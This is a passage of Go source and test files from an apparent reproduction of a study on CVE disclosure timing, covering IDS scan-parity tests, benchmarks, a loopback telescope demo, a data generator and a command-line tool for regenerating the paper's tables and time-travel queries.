			capture := studyCapture(t, seed, scale)
			study, err := wayback.NewStudy(wayback.Config{Seed: seed, Scale: scale})
			if err != nil {
				t.Fatal(err)
			}

			r, err := pcapio.NewReader(bytes.NewReader(capture))
			if err != nil {
				t.Fatal(err)
			}
			wantEvents, wantStats, err := ids.ScanCapture(r, study.Engine())
			if err != nil {
				t.Fatal(err)
			}
			if len(wantEvents) == 0 {
				t.Fatal("study capture produced no events")
			}

			// Table 4 from the full study at each shard width must render to
			// identical bytes; its events/stats must equal the serial scan.
			var wantTable string
			for _, shards := range []int{1, 3, 8} {
				s, err := wayback.NewStudy(wayback.Config{
					Seed: seed, Scale: scale, UsePcap: true,
					PipelineTimelines: true, ReasmShards: shards,
				})
				if err != nil {
					t.Fatal(err)
				}
				res, err := s.Run()
				if err != nil {
					t.Fatal(err)
				}
				if !reflect.DeepEqual(res.Events, wantEvents) {
					t.Fatalf("shards=%d: events differ from serial scan", shards)
				}
				if res.Stats != wantStats {
					t.Fatalf("shards=%d: stats %+v, want %+v", shards, res.Stats, wantStats)
				}
				table := res.Table4().String()
				if wantTable == "" {
					wantTable = table
				} else if table != wantTable {
					t.Fatalf("shards=%d: Table 4 bytes differ:\n%s\nvs\n%s", shards, table, wantTable)
				}
			}
		})
	}
}

// TestShardedScanSegmentsStudyParity rotates the study capture into small
// segments and fans one decoder out per segment — the waybackctl replay
// path — checking against the serial multi-file scan.
func TestShardedScanSegmentsStudyParity(t *testing.T) {
	const seed, scale = 2, 120
	bps, err := scanner.Build(scanner.Config{Seed: seed, Scale: scale})
	if err != nil {
		t.Fatal(err)
	}
	sessions := telescope.NewSim(telescope.SimConfig{Seed: seed}).Sessions(bps)
	rw, err := pcapio.NewRotatingWriter(t.TempDir(), "parity", pcapio.LinkTypeEthernet, 128<<10,
		pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	if err := telescope.SessionsToPcap(sessions, rw, seed); err != nil {
		t.Fatal(err)
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	files := rw.Files()
	if len(files) < 3 {
		t.Fatalf("capture fit in %d segment(s); fan-out untested", len(files))
	}
	study, err := wayback.NewStudy(wayback.Config{Seed: seed, Scale: scale})
	if err != nil {
		t.Fatal(err)
	}

	serial, err := pcapio.OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	defer serial.Close()
	wantEvents, wantStats, err := ids.ScanCapture(serial, study.Engine())
	if err != nil {
		t.Fatal(err)
	}
	if len(wantEvents) == 0 {
		t.Fatal("no events")
	}

	srcs := make([]pcapio.PacketSource, len(files))
	for i, f := range files {
		src, err := pcapio.OpenFiles(f)
		if err != nil {
			t.Fatal(err)
		}
		defer src.Close()
		srcs[i] = src
	}
	events, stats, err := ids.ScanCaptureSharded(srcs, study.Engine(), ids.ScanConfig{Shards: 4})
	if err != nil {
		t.Fatal(err)
	}
	if stats != wantStats {
		t.Fatalf("stats %+v, want %+v", stats, wantStats)
	}
	if !reflect.DeepEqual(events, wantEvents) {
		t.Fatal("segment fan-out events differ from serial multi-file scan")
	}
}

// BenchmarkScanCapture is the front-end throughput headline: the same study
// capture through the serial scan, the sharded scan, and a four-segment
// fan-out. SetBytes reports capture MB/s.
func BenchmarkScanCapture(b *testing.B) {
	const seed, scale = 1, 60
	capture := studyCapture(b, seed, scale)
	study, err := wayback.NewStudy(wayback.Config{Seed: seed, Scale: scale})
	if err != nil {
		b.Fatal(err)
	}
	engine := study.Engine()

	b.Run("serial", func(b *testing.B) {
		b.SetBytes(int64(len(capture)))
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			r, err := pcapio.NewReader(bytes.NewReader(capture))
			if err != nil {
				b.Fatal(err)
			}
			events, _, err := ids.ScanCapture(r, engine)
			if err != nil {
				b.Fatal(err)
			}
			if len(events) == 0 {
				b.Fatal("no events")
			}
		}
	})
	b.Run("sharded", func(b *testing.B) {
		b.SetBytes(int64(len(capture)))
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			r, err := pcapio.NewReader(bytes.NewReader(capture))
			if err != nil {
				b.Fatal(err)
			}
			events, _, err := ids.ScanCaptureSharded([]pcapio.PacketSource{r}, engine, ids.ScanConfig{})
			if err != nil {
				b.Fatal(err)
			}
			if len(events) == 0 {
				b.Fatal("no events")
			}
		}
	})
	b.Run("segments4", func(b *testing.B) {
		// Split the capture into four time-ordered segment files once.
		bps, err := scanner.Build(scanner.Config{Seed: seed, Scale: scale})
		if err != nil {
			b.Fatal(err)
		}
		sessions := telescope.NewSim(telescope.SimConfig{Seed: seed}).Sessions(bps)
		rw, err := pcapio.NewRotatingWriter(b.TempDir(), "bench", pcapio.LinkTypeEthernet,
			int64(len(capture)/4), pcapio.WithNanoPrecision())
		if err != nil {
			b.Fatal(err)
		}
		if err := telescope.SessionsToPcap(sessions, rw, seed); err != nil {
			b.Fatal(err)
		}
		if err := rw.Close(); err != nil {
			b.Fatal(err)
		}
		files := rw.Files()
		b.SetBytes(int64(len(capture)))
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			srcs := make([]pcapio.PacketSource, len(files))
			closers := make([]*pcapio.MultiSource, len(files))
			for j, f := range files {
				src, err := pcapio.OpenFiles(f)
				if err != nil {
					b.Fatal(err)
				}
				srcs[j] = src
				closers[j] = src
			}
			events, _, err := ids.ScanCaptureSharded(srcs, engine, ids.ScanConfig{})
			if err != nil {
				b.Fatal(err)
			}
			for _, c := range closers {
				c.Close()
			}
			if len(events) == 0 {
				b.Fatal("no events")
			}
		}
	})
}
