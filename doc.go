// Package repro is a from-scratch Go reproduction of "The CVE Wayback
// Machine: Measuring Coordinated Disclosure from Exploits against Two Years
// of Zero-Days" (IMC 2023).
//
// The public API lives in package repro/wayback; the substrates (telescope,
// IDS, TCP reassembly, rule language, datasets, lifecycle model) live under
// repro/internal. The capture-to-session front-end is parallel end to end —
// allocation-free packet decode (packet.DecodeInto), flow-sharded TCP
// reassembly (tcpasm.Sharded), and per-segment pcap fan-out
// (ids.ScanCaptureSharded) — and provably output-identical to the serial
// path: scan_parity_test.go asserts byte-identical events and Table 4 for
// every shard width. Durability is tested by simulation: internal/fault is
// the seeded fault-injection substrate (a VFS with torn writes, ENOSPC,
// lying fsyncs and crash points, plus a partitioning network), and
// internal/simtest replays the whole sensor-fleet pipeline under seeded
// crash schedules, asserting exactly-once ingest and byte-identical output
// after every recovery. internal/timeline adds time travel over the event
// log: committed events are sealed into immutable time-partitioned segments
// with sparse time/CVE indexes, analysis aggregates are checkpointed, and
// Engine.AsOf answers any table or figure as of an earlier instant in time
// proportional to the events since the nearest checkpoint — served as
// ?asof=, /v1/diff and /v1/skill by internal/serve, and as the waybackctl
// asof subcommand offline. internal/registry makes the ruleset itself a
// versioned, hot-reloadable input: publications append dated deltas to a
// CRC-framed journal, each generation compiles (with an on-disk
// double-array automaton cache) into an engine the pipelines adopt by
// RCU-style swap between batches, and per-session digests let a rescan
// retroactively re-attribute history under earliest-published-match — so
// the store converges to what a cold run over the final ruleset would have
// produced (served as /v1/ruleset and the waybackctl rules subcommand).
// See README.md for the architecture and
// EXPERIMENTS.md for paper-vs-measured results; bench_test.go regenerates
// every table and figure of the paper's evaluation.
package repro
