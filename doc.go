// Package repro is a from-scratch Go reproduction of "The CVE Wayback
// Machine: Measuring Coordinated Disclosure from Exploits against Two Years
// of Zero-Days" (IMC 2023).
//
// The public API lives in package repro/wayback; the substrates (telescope,
// IDS, TCP reassembly, rule language, datasets, lifecycle model) live under
// repro/internal. See README.md for the architecture and EXPERIMENTS.md for
// paper-vs-measured results; bench_test.go regenerates every table and
// figure of the paper's evaluation.
package repro
