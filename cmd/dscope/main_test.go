package main

import (
	"os"
	"testing"
)

func TestDscopeEndToEnd(t *testing.T) {
	old := os.Stdout
	null, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = null
	err := run([]string{"-probes", "6", "-ports", "2", "-window", "500ms"})
	os.Stdout = old
	null.Close()
	if err != nil {
		t.Fatal(err)
	}
}

func TestDscopeBadFlags(t *testing.T) {
	if err := run([]string{"-ports", "x"}); err == nil {
		t.Error("bad flag accepted")
	}
}
