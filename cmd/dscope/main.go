// Command dscope runs a live DSCOPE-style interactive telescope instance on
// loopback, optionally drives a burst of simulated scanners against it, and
// prints IDS attributions for everything it captures — the zero-to-aha
// demonstration of the paper's capture methodology on a real TCP stack.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"time"

	"repro/internal/ids"
	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/tcpasm"
	"repro/internal/telescope"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "dscope:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("dscope", flag.ContinueOnError)
	addr := fs.String("addr", "127.0.0.1", "address to bind")
	ports := fs.Int("ports", 4, "number of listener ports (ephemeral)")
	probes := fs.Int("probes", 25, "simulated scanner sessions to send (0 = listen only)")
	window := fs.Duration("window", 2*time.Second, "banner capture window")
	seed := fs.Int64("seed", 1, "workload seed")
	pcapOut := fs.String("pcap", "", "write captured sessions to this pcap file")
	if err := fs.Parse(args); err != nil {
		return err
	}

	portList := make([]int, *ports)
	live, err := telescope.NewLive(telescope.LiveConfig{
		Addr: *addr, Ports: portList, BannerWindow: *window,
	})
	if err != nil {
		return err
	}
	fmt.Println("telescope listening on:")
	for _, a := range live.Addrs() {
		fmt.Println("  ", a)
	}

	rs, err := scanner.StudyRuleset()
	if err != nil {
		return err
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})
	fmt.Printf("IDS engine loaded: %d dated signatures\n\n", engine.NumRules())

	if *probes > 0 {
		bps, err := scanner.Build(scanner.Config{Seed: *seed, Scale: 2000, Noise: 5})
		if err != nil {
			return err
		}
		if len(bps) > *probes {
			bps = bps[:*probes]
		}
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		addrs := live.Addrs()
		for i, bp := range bps {
			if err := telescope.Probe(ctx, addrs[i%len(addrs)].String(), bp.Payload); err != nil {
				return fmt.Errorf("probe %d: %w", i, err)
			}
		}
		live.Close()
	} else {
		fmt.Println("listening until interrupted; sessions print as they arrive")
	}

	var captured []tcpasm.Session
	matched, noise := 0, 0
	for s := range live.Sessions() {
		captured = append(captured, s)
		sess := s
		m, ok := engine.Earliest(&sess)
		if !ok {
			noise++
			fmt.Printf("%-21s -> %-21s %4dB  (no signature)\n",
				sess.Client, sess.Server, len(sess.ClientData))
			continue
		}
		matched++
		cve := "-"
		if len(m.CVEs) > 0 {
			cve = "CVE-" + m.CVEs[0]
		}
		fmt.Printf("%-21s -> %-21s %4dB  sid:%-6d %-15s %s\n",
			sess.Client, sess.Server, len(sess.ClientData), m.SID, cve, truncate(m.Rule.Rule.Msg, 50))
	}
	fmt.Printf("\ncaptured %d sessions: %d exploit events, %d background\n", matched+noise, matched, noise)
	if *pcapOut != "" {
		f, err := os.Create(*pcapOut)
		if err != nil {
			return err
		}
		defer f.Close()
		w, err := pcapio.NewWriter(f, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
		if err != nil {
			return err
		}
		if err := telescope.SessionsToPcap(captured, w, *seed); err != nil {
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
		fmt.Printf("wrote reconstructed capture to %s (replay with: waybackctl replay %s)\n", *pcapOut, *pcapOut)
	}
	return nil
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n-3] + "..."
}
