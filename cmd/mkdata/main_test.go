package main

import (
	"os"
	"path/filepath"
	"testing"

	"repro/internal/datasets"
	"repro/internal/rules"
)

func TestMkdataWritesArtifacts(t *testing.T) {
	dir := t.TempDir()
	old := os.Stdout
	null, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = null
	err := run([]string{"-out", dir, "-population", "500"})
	os.Stdout = old
	null.Close()
	if err != nil {
		t.Fatal(err)
	}

	// The KEV catalog round-trips through the loader.
	var kev []datasets.KEVEntry
	if err := datasets.ReadJSON(filepath.Join(dir, "kev.json"), &kev); err != nil {
		t.Fatal(err)
	}
	if len(kev) != 424 {
		t.Errorf("kev entries = %d", len(kev))
	}
	var pop []datasets.CVERecord
	if err := datasets.ReadJSON(filepath.Join(dir, "population.json"), &pop); err != nil {
		t.Fatal(err)
	}
	if len(pop) != 500 {
		t.Errorf("population = %d", len(pop))
	}

	// The emitted ruleset must parse back through the strict parser.
	f, err := os.Open(filepath.Join(dir, "study.rules"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	parsed, errs := rules.ParseRuleset(f)
	if len(errs) != 0 {
		t.Fatalf("ruleset reparse errors: %v", errs)
	}
	if len(parsed) != 77 {
		t.Errorf("reparsed rules = %d, want 77", len(parsed))
	}

	csvFile, err := os.Open(filepath.Join(dir, "appendixE.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer csvFile.Close()
	cves, err := datasets.ReadStudyCSV(csvFile)
	if err != nil {
		t.Fatal(err)
	}
	if len(cves) != 63 {
		t.Errorf("appendixE.csv rows = %d, want 63", len(cves))
	}
	orig := datasets.StudyCVEs()
	for i := range orig {
		if cves[i] != orig[i] {
			t.Fatalf("CSV row %d lost fidelity", i)
		}
	}
}

func TestMkdataBadFlags(t *testing.T) {
	if err := run([]string{"-population", "x"}); err == nil {
		t.Error("bad flag accepted")
	}
}
