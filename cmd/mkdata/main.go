// Command mkdata regenerates the study's data artifacts to disk: the
// synthetic KEV catalog and all-CVE population (calibrated, seeded), the
// dated study ruleset in Snort syntax, and the Appendix E listing as CSV.
// The files let external tooling (or a skeptical reviewer) inspect exactly
// what the analyses consume.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"

	"repro/internal/datasets"
	"repro/internal/netsim"
	"repro/internal/rules"
	"repro/internal/scanner"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "mkdata:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("mkdata", flag.ContinueOnError)
	out := fs.String("out", "data", "output directory")
	seed := fs.Int64("seed", 1, "generator seed")
	popN := fs.Int("population", 50000, "synthetic all-CVE population size")
	sigN := fs.Int("signatures", 0, "also write signatures.rules, a Talos-scale synthetic corpus with this many rules (0 = skip)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	if err := os.MkdirAll(*out, 0o755); err != nil {
		return err
	}

	kev := datasets.GenerateKEV(datasets.KEVConfig{Seed: *seed})
	if err := datasets.WriteJSON(filepath.Join(*out, "kev.json"), kev.Entries); err != nil {
		return err
	}
	pop := datasets.GeneratePopulation(datasets.PopulationConfig{Seed: *seed, N: *popN})
	if err := datasets.WriteJSON(filepath.Join(*out, "population.json"), pop); err != nil {
		return err
	}

	studyRules, err := scanner.StudyRuleset()
	if err != nil {
		return err
	}
	f, err := os.Create(filepath.Join(*out, "study.rules"))
	if err != nil {
		return err
	}
	defer f.Close()
	fmt.Fprintln(f, "# CVE Wayback Machine study ruleset")
	fmt.Fprintln(f, "# One signature per studied CVE plus the 15 Log4Shell variants.")
	fmt.Fprintln(f, "# The publication date precedes each rule as a comment (post-facto")
	fmt.Fprintln(f, "# evaluation uses it to date F and D).")
	if err := rules.WriteDatedRuleset(f, studyRules); err != nil {
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}

	csvFile, err := os.Create(filepath.Join(*out, "appendixE.csv"))
	if err != nil {
		return err
	}
	defer csvFile.Close()
	// Full-fidelity CSV: round-trips through datasets.ReadStudyCSV without
	// loss (the rendered Appendix E table truncates descriptions).
	if err := datasets.WriteStudyCSV(csvFile, datasets.StudyCVEs()); err != nil {
		return err
	}

	if *sigN > 0 {
		sf, err := os.Create(filepath.Join(*out, "signatures.rules"))
		if err != nil {
			return err
		}
		defer sf.Close()
		cfg := netsim.SignatureCorpusConfig{Seed: *seed, N: *sigN}
		if err := netsim.WriteSignatureCorpus(sf, cfg); err != nil {
			return err
		}
		if err := sf.Close(); err != nil {
			return err
		}
		fmt.Printf("wrote signatures.rules (%d synthetic rules)\n", *sigN)
	}

	fmt.Printf("wrote kev.json (%d entries), population.json (%d CVEs), study.rules (%d rules), appendixE.csv (63 rows) to %s\n",
		len(kev.Entries), len(pop), len(studyRules), *out)
	return nil
}
