package main

import (
	"flag"
	"fmt"
	"path/filepath"
	"strconv"
	"time"

	"repro/internal/timeline"
	"repro/wayback"
)

// asof is the time-travel entry point: open a store, attach (or create) the
// timeline engine next to it, seal whatever is committed but unsealed, and
// answer the requested analysis as of a past instant.
func asof(args []string, cfg wayback.Config) error {
	fs := flag.NewFlagSet("waybackctl asof", flag.ContinueOnError)
	storeDir := fs.String("store", "", "event store directory (required)")
	tlDir := fs.String("timeline", "", "timeline directory (default STORE/timeline)")
	date := fs.String("date", "", "as-of instant, RFC 3339 or YYYY-MM-DD (default: now)")
	segment := fs.Int("segment-events", 0, "events per sealed segment (0 = engine default)")
	ckpt := fs.Int("checkpoint-every", 1, "checkpoint every N sealed segments (negative = never)")
	noSeal := fs.Bool("no-seal", false, "query existing segments only; do not seal the committed tail")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *storeDir == "" {
		return fmt.Errorf("asof needs -store DIR")
	}

	study, err := wayback.NewStudy(cfg)
	if err != nil {
		return err
	}
	store, err := wayback.OpenStore(*storeDir)
	if err != nil {
		return err
	}
	defer store.Close()
	if *tlDir == "" {
		*tlDir = filepath.Join(*storeDir, "timeline")
	}
	eng, err := study.OpenTimeline(*tlDir, store, timeline.Config{
		SegmentEvents:   *segment,
		CheckpointEvery: *ckpt,
	})
	if err != nil {
		return err
	}
	if !*noSeal {
		if _, err := eng.Seal(); err != nil {
			return err
		}
	}

	cmd := fs.Arg(0)
	if cmd == "" {
		cmd = "summary"
	}
	switch cmd {
	case "summary", "table", "figure":
		at, err := parseAsOfDate(*date)
		if err != nil {
			return fmt.Errorf("bad -date: %w", err)
		}
		v, err := eng.AsOf(at)
		if err != nil {
			return err
		}
		res := study.ResultsFromView(v)
		switch cmd {
		case "summary":
			return asofSummary(v, res)
		case "table":
			if fs.Arg(1) == "5" {
				if err := res.MaterializeEvents(); err != nil {
					return err
				}
			}
			return table(res, fs.Arg(1))
		default:
			if err := res.MaterializeEvents(); err != nil {
				return err
			}
			return figure(res, fs.Arg(1))
		}
	case "diff":
		from, err := parseAsOfDate(fs.Arg(1))
		if err != nil || fs.Arg(1) == "" {
			return fmt.Errorf("diff wants FROM TO dates: %w", err)
		}
		to, err := parseAsOfDate(fs.Arg(2))
		if err != nil || fs.Arg(2) == "" {
			return fmt.Errorf("diff wants FROM TO dates: %w", err)
		}
		return asofDiff(eng, from, to)
	case "skill":
		from, err := parseAsOfDate(fs.Arg(1))
		if err != nil || fs.Arg(1) == "" {
			return fmt.Errorf("skill wants FROM TO dates: %w", err)
		}
		to, err := parseAsOfDate(fs.Arg(2))
		if err != nil || fs.Arg(2) == "" {
			return fmt.Errorf("skill wants FROM TO dates: %w", err)
		}
		stepDays := 30
		if fs.Arg(3) != "" {
			stepDays, err = strconv.Atoi(fs.Arg(3))
			if err != nil || stepDays <= 0 {
				return fmt.Errorf("skill step wants a positive day count, got %q", fs.Arg(3))
			}
		}
		pts, err := eng.SkillSeries(from, to, time.Duration(stepDays)*24*time.Hour)
		if err != nil {
			return err
		}
		fmt.Printf("coordination skill, %s .. %s (every %d days):\n",
			from.Format("2006-01-02"), to.Format("2006-01-02"), stepDays)
		for _, p := range pts {
			fmt.Printf("  %s  %3d CVEs  %6d events  mean skill %.2f  skillful %d\n",
				p.Date.Format("2006-01-02"), p.CVEs, p.Events, p.MeanSkill, p.Skillful)
		}
		return nil
	default:
		return fmt.Errorf("unknown asof command %q (summary | table N | figure N | diff A B | skill A B [DAYS])", cmd)
	}
}

func parseAsOfDate(v string) (time.Time, error) {
	if v == "" {
		return time.Now(), nil
	}
	if t, err := time.Parse(time.RFC3339, v); err == nil {
		return t, nil
	}
	t, err := time.Parse("2006-01-02", v)
	if err != nil {
		return time.Time{}, fmt.Errorf("want RFC 3339 or YYYY-MM-DD, got %q", v)
	}
	return t, nil
}

func asofSummary(v *timeline.View, res *wayback.Results) error {
	fmt.Printf("study as of %s\n\n", v.Time().UTC().Format(time.RFC3339))
	fmt.Printf("Events: %d (%d replayed beyond the nearest checkpoint)\n", v.EventCount(), v.Replayed())
	fmt.Printf("CVEs with lifecycle data: %d\n\n", len(res.Timelines))
	fmt.Print(res.Table4().String())
	fmt.Printf("\nMean skill: %.2f\n", res.MeanSkill())
	return nil
}

func asofDiff(eng *timeline.Engine, from, to time.Time) error {
	vf, err := eng.AsOf(from)
	if err != nil {
		return err
	}
	vt, err := eng.AsOf(to)
	if err != nil {
		return err
	}
	diffs := timeline.DiffTimelines(vf.Timelines(), vt.Timelines())
	fmt.Printf("%d CVEs changed, %s .. %s\n", len(diffs),
		from.Format("2006-01-02"), to.Format("2006-01-02"))
	fmtAt := func(t *time.Time) string {
		if t == nil {
			return "-"
		}
		return t.UTC().Format("2006-01-02")
	}
	for _, d := range diffs {
		tag := ""
		if d.New {
			tag = "  (new)"
		}
		fmt.Printf("  CVE-%-14s events %d -> %d%s\n", d.CVE, d.EventsFrom, d.EventsTo, tag)
		for _, ch := range d.Changed {
			fmt.Printf("    %s: %s -> %s\n", ch.Letter, fmtAt(ch.From), fmtAt(ch.To))
		}
	}
	return nil
}
