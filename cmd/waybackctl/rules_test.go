package main

import (
	"os"
	"path/filepath"
	"testing"
)

// TestRulesOffline drives the -dir mode end to end: publish a dated delta
// into a fresh registry directory, show it back, and check the journal
// survives a second invocation (a new registry open).
func TestRulesOffline(t *testing.T) {
	dir := t.TempDir()
	delta := filepath.Join(dir, "delta.rules")
	text := "# published: 2021-09-01T00:00:00Z\n" +
		`alert tcp any any -> any any (msg:"ctl"; content:"ctl-token"; reference:cve,2021-9000; sid:710001; rev:1;)` + "\n"
	if err := os.WriteFile(delta, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	regDir := filepath.Join(dir, "rules")

	old := os.Stdout
	null, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	os.Stdout = null
	defer func() {
		os.Stdout = old
		null.Close()
	}()

	for _, args := range [][]string{
		{"-scale", "2000", "rules", "publish", "-dir", regDir, "-file", delta},
		{"-scale", "2000", "rules", "show", "-dir", regDir},
		{"-scale", "2000", "rules", "show", "-dir", regDir, "-full"},
	} {
		if err := run(args); err != nil {
			t.Errorf("run(%v): %v", args, err)
		}
	}
	// The publish journaled durably: the directory has the journal and the
	// publication left a pending-rescan marker for a daemon to pick up.
	if _, err := os.Stat(filepath.Join(regDir, "ruleset.journal")); err != nil {
		t.Errorf("journal missing after publish: %v", err)
	}
	if _, err := os.Stat(filepath.Join(regDir, "rescan.pending")); err != nil {
		t.Errorf("rescan marker missing after publish: %v", err)
	}

	for _, args := range [][]string{
		{"rules"},                               // missing subcommand
		{"rules", "show"},                       // neither -addr nor -dir
		{"rules", "publish", "-dir", regDir},    // missing -file
		{"rules", "rescan", "-dir", regDir},     // missing -store
		{"rules", "frobnicate", "-dir", regDir}, // unknown subcommand
	} {
		if err := run(args); err == nil {
			t.Errorf("run(%v) succeeded, want error", args)
		}
	}
}
