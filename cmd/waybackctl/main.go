// Command waybackctl runs the CVE Wayback Machine study and regenerates any
// of the paper's tables and figures.
//
// Usage:
//
//	waybackctl [flags] summary            # headline findings
//	waybackctl [flags] table {1|2|3|4|5|6|E}
//	waybackctl [flags] figure {1..18}
//	waybackctl [flags] finding7
//	waybackctl [flags] kev | audit | transfer | artifacts | kevfeed | trend | ci | report
//	waybackctl [flags] all -out DIR       # every table/figure as CSV
//	waybackctl [flags] replay FILE        # scan a pcap/pcapng capture with the dated ruleset
//	waybackctl [flags] asof -store DIR [-date D] [summary|table N|figure N|diff A B|skill A B [DAYS]]
//	waybackctl [flags] rules {publish -file F|show [-full]|rescan} {-addr URL|-dir DIR [-store DIR]}
//
// The rules command drives a versioned ruleset registry — publish a dated
// delta (to a live daemon over /v1/ruleset, or straight into a registry
// directory that daemons and sensors poll), inspect the current generation,
// or trigger the retroactive rescan that re-attributes already-ingested
// history under the earliest-published match.
//
// The asof command time-travels a live event store: it opens (or creates) a
// timeline of sealed segments and checkpoints next to the store and answers
// tables, figures, lifecycle diffs, and skill-over-time series as the study
// stood at -date, at the cost of the events since the nearest checkpoint.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"

	"repro/internal/core"
	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/netsim"
	"repro/internal/pcapio"
	"repro/internal/report"
	"repro/internal/rules"
	"repro/internal/scanner"
	"repro/internal/stats"
	"repro/internal/tcpasm"
	"repro/wayback"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "waybackctl:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("waybackctl", flag.ContinueOnError)
	seed := fs.Int64("seed", 1, "study seed")
	scale := fs.Int("scale", 50, "event volume divisor (1 = full 115k-event study)")
	pcap := fs.Bool("pcap", false, "route capture through real pcap bytes")
	streamFlag := fs.Bool("stream", false, "synthesize the capture lazily into the sharded scan (no pcap bytes materialized; identical output)")
	streamSegments := fs.Int("stream-segments", 0, "virtual capture segments for -stream (0 = min(8, GOMAXPROCS); output is identical for every value)")
	pipeline := fs.Bool("pipeline", false, "derive lifecycles from the measured pipeline instead of Appendix E")
	out := fs.String("out", "paper-out", "output directory for 'all'")
	rulesPath := fs.String("rules", "", "dated ruleset file for 'replay' (default: the built-in study ruleset)")
	reasmShards := fs.Int("reasm-shards", 0, "flow-sharded reassembly width (0 = min(8, GOMAXPROCS); output is identical for every value)")
	matchWorkers := fs.Int("match-workers", 0, "signature-matching worker pool size (0 = GOMAXPROCS)")
	overlapFlag := fs.String("overlap-policy", "first-wins", "reassembly policy for conflicting overlapping retransmits (first-wins | last-wins); conflicting sessions are flagged ambiguous either way")
	impairSpec := fs.String("impair", "", "seeded impairment profile applied to 'replay' captures, e.g. loss=0.01,dup=0.02,reorder=0.05,abort=0.001,mtu=1400,seed=7")
	if err := fs.Parse(args); err != nil {
		return err
	}
	overlap, err := tcpasm.ParseOverlapPolicy(*overlapFlag)
	if err != nil {
		return err
	}
	if fs.NArg() == 0 {
		return fmt.Errorf("missing command (summary | table N | figure N | finding7 | kev | all | replay FILE)")
	}
	if fs.Arg(0) == "replay" {
		return replay(fs.Args()[1:], *rulesPath, *reasmShards, *matchWorkers, overlap, *impairSpec)
	}
	if fs.Arg(0) == "asof" {
		return asof(fs.Args()[1:], wayback.Config{
			Seed: *seed, Scale: *scale, PipelineTimelines: *pipeline,
		})
	}
	if fs.Arg(0) == "rules" {
		return rulesCmd(fs.Args()[1:], wayback.Config{Seed: *seed, Scale: *scale})
	}

	study, err := wayback.NewStudy(wayback.Config{
		Seed: *seed, Scale: *scale, UsePcap: *pcap, PipelineTimelines: *pipeline,
		Streaming: *streamFlag, StreamSegments: *streamSegments,
		ReasmShards: *reasmShards, MatchWorkers: *matchWorkers,
		OverlapPolicy: overlap,
	})
	if err != nil {
		return err
	}
	res, err := study.Run()
	if err != nil {
		return err
	}

	switch fs.Arg(0) {
	case "summary":
		return summary(res)
	case "table":
		return table(res, fs.Arg(1))
	case "figure":
		return figure(res, fs.Arg(1))
	case "finding7":
		f := res.Finding7()
		fmt.Printf("Finding 7 counterfactual (IDS vendor included in disclosure, 30-day window):\n")
		fmt.Printf("  D<A satisfied: %.2f -> %.2f\n", f.BeforeSatisfied, f.AfterSatisfied)
		fmt.Printf("  D<A skill:     %.2f -> %.2f (%+.0f%%)\n", f.BeforeSkill, f.AfterSkill, f.SkillImprovement*100)
		return nil
	case "kev":
		fmt.Print(report.KEVTable(res.KEVComparison()).String())
		return nil
	case "audit":
		leading := res.AuditLeadingMatches(study.RulePublications())
		fmt.Printf("rule-leading traffic (Section 3.2 root-cause review inputs): %d CVEs\n", len(leading))
		for _, lm := range leading {
			fmt.Printf("  CVE-%s sid:%d  first match %s, %.0f days before rule publication (%d/%d events lead)\n",
				lm.CVE, lm.SID, lm.FirstMatch.Format("2006-01-02"),
				lm.Lead.Hours()/24, lm.Events, lm.TotalEvents)
		}
		return nil
	case "transfer":
		rep := res.TransferScan(5)
		fmt.Printf("transferability scan (Finding 19): %d sessions, %d matched known families, %d on novel ports\n",
			rep.Sessions, rep.Matched, len(rep.NovelDomain))
		seen := map[string]int{}
		for _, m := range rep.NovelDomain {
			seen[m.Family]++
		}
		for fam, n := range seen {
			fmt.Printf("  %-18s %d novel-port applications\n", fam, n)
		}
		return nil
	case "report":
		if err := os.MkdirAll(*out, 0o755); err != nil {
			return err
		}
		path := filepath.Join(*out, "report.md")
		f, err := os.Create(path)
		if err != nil {
			return err
		}
		defer f.Close()
		if err := res.WriteReport(f); err != nil {
			return err
		}
		fmt.Printf("wrote %s\n", path)
		return nil
	case "ci":
		results, err := core.BootstrapDesiderata(res.Timelines, core.PublishedBaselines(), 2000, 0.95, *seed)
		if err != nil {
			return err
		}
		fmt.Println("Table 4 with 95% bootstrap confidence intervals (2000 resamples):")
		for _, r := range results {
			fmt.Printf("  %-6s satisfied %.2f %-14s skill CI %s\n",
				r.Pair, r.Satisfied, r.SatisfiedCI, r.SkillCI)
		}
		meanCI, err := core.BootstrapMeanSkill(res.Timelines, core.PublishedBaselines(), 2000, 0.95, *seed)
		if err != nil {
			return err
		}
		fmt.Printf("  mean skill %s (paper point estimate: 0.37)\n", meanCI)
		return nil
	case "trend":
		periods := res.SkillTrend(4)
